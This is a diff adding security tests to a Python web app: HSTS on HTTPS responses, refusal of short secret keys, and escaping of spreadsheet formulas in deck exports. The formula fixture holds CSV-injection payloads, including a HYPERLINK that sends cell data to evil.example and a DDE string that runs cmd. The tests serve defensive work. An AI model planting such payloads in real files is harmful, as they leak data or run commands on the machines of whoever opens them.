@@ -1,6 +1,9 @@
-"""Hostile input never gets a 500 (ids no database holds, far dates, blank and huge numbers), and database errors
-keep typed text out of the log."""
+"""Hostile input never gets a 500 (ids no database holds, far dates, blank and huge numbers), database errors
+keep typed text out of the log, and the hardening of issue 10's item 11: HSTS over HTTPS, no short secret key,
+no spreadsheet formulas in exports."""
 
+import csv
+import io
 import logging
 import re
 from pathlib import Path
@@ -11,9 +14,12 @@ from wtforms import DecimalField, FloatField, IntegerField
 from wtforms.fields.core import UnboundField
 
 import failforward
+from failforward import create_app
 from failforward.accounts.models import User
 from failforward.extensions import db
 from failforward.forms import Form
+from failforward.study import services as study
+from failforward.study.models import StudyItem
 from tests.conftest import make_test_app
 from tests.test_security import POSTS, build_full_world, dump, path_for, sign_in
 
@@ -230,3 +236,93 @@ def test_a_failing_statement_does_not_write_what_was_typed_into_the_log(tmp_path
         assert all(TYPED not in str(record.args) for record in caplog.records)
         db.drop_all()
         db.engine.dispose()
+
+
+# --- HTTPS: Strict-Transport-Security --------------------------------------------------------------
+
+HSTS = "max-age=31536000; includeSubDomains"
+
+
+def test_every_https_response_carries_hsts_and_no_plain_http_one_does(app, client, htmx_client, learner, login):
+    def responses(base_url: str) -> list:
+        return [client.get("/", base_url=base_url), client.get("/login", base_url=base_url),
+                client.get("/no-such-page", base_url=base_url), client.get("/static/app.css", base_url=base_url),
+                client.post("/login", data={"email": "x"}, base_url=base_url),
+                htmx_client.post("/signup", data={}, base_url=base_url)]
+
+    secure, plain = responses("https://localhost"), responses("http://localhost")
+    assert [r.status_code for r in secure] == [200, 200, 404, 200, 422, 422]
+    for response in secure:
+        assert response.headers.get("Strict-Transport-Security") == HSTS
+        response.close()
+    for response in plain:
+        assert "Strict-Transport-Security" not in response.headers
+        response.close()
+
+
+# --- a secret key long enough to sign sessions -------------------------------------------------------
+
+def app_with_key(tmp_path, key, **config):
+    return create_app({"SECRET_KEY": key, "INSTANCE_PATH": str(tmp_path / "instance"),
+                       "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path / 'key.sqlite3'}", "HUEY_IMMEDIATE": True,
+                       **config})
+
+
+def test_a_secret_key_shorter_than_32_bytes_is_refused_outside_debug_and_tests(tmp_path):
+    for short in ("x" * 31, "short-but-not-a-placeholder", b"\x00" * 31, "é" * 15 + "x"):
+        with pytest.raises(RuntimeError, match="shorter than 32 bytes"):
+            app_with_key(tmp_path, short)
+    for key in ("x" * 32, "é" * 16, b"\x01" * 32):
+        assert app_with_key(tmp_path, key).config["SECRET_KEY"] == key
+    assert app_with_key(tmp_path, "short", DEBUG=True).debug
+    assert app_with_key(tmp_path, "short", TESTING=True).testing
+    generated = app_with_key(tmp_path, None).config["SECRET_KEY"]
+    assert len(generated.encode()) >= 32
+
+
+# --- exports: no spreadsheet formulas --------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-3", "-2+3",
+            "@SUM(A1:A9)", "'=already quoted", "''@twice"]
+
+
+@pytest.fixture
+def formula_deck(app, client, coach, learner, the_link):
+    """A deck of Lee's in which the coach wrote formulas (a coach may add items to a learner's deck); the
+    client is Lee's."""
+    deck = study.create_deck(learner, learner, "Maths", "")
+    coach_browser = app.test_client()
+    sign_in(coach_browser, coach.id)
+    for formula in FORMULAS:
+        response = coach_browser.post(f"/study/decks/{deck.id}/items",
+                                      data={"prompt": formula, "answer": f"{formula} answer", "tags": "plain"})
+        assert response.status_code == 303
+    sign_in(client, learner.id)
+    return deck
+
+
+def cells(text: str, delimiter: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text), delimiter=delimiter))
+
+
+@pytest.mark.parametrize(("query", "delimiter"), [({}, ","), ({"format": "anki"}, "\t")])
+def test_an_exported_deck_opens_in_a_spreadsheet_without_formulas(client, formula_deck, query, delimiter):
+    response = client.get(f"/study/decks/{formula_deck.id}/export", query_string=query)
+    assert response.status_code == 200
+    rows = [row for row in cells(response.get_data(as_text=True), delimiter) if not row[0].startswith("#")]
+    assert len(rows) == len(FORMULAS)
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        assert row[0] == "'" + formula, row  # a leading quote: the spreadsheet shows text
+        assert row[1] == "'" + formula + " answer"
+        assert row[2] == "plain"
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+
+
+@pytest.mark.parametrize("query", [{}, {"format": "anki"}])
+def test_an_exported_deck_imports_back_as_it_was(client, learner, formula_deck, query):
+    exported = client.get(f"/study/decks/{formula_deck.id}/export", query_string=query).get_data(as_text=True)
+    assert "'=HYPERLINK" in exported and "'''@twice" in exported  # neutralised, yet read back as typed
+    copy = study.create_deck(learner, learner, "Maths again", "")
+    assert client.post(f"/study/decks/{copy.id}/import/confirm", data={"text": exported}).status_code == 303
+    imported = db.session.scalars(db.select(StudyItem).filter_by(deck_id=copy.id).order_by(StudyItem.id)).all()
+    assert [(item.prompt, item.answer) for item in imported] == [(f, f"{f} answer") for f in FORMULAS]
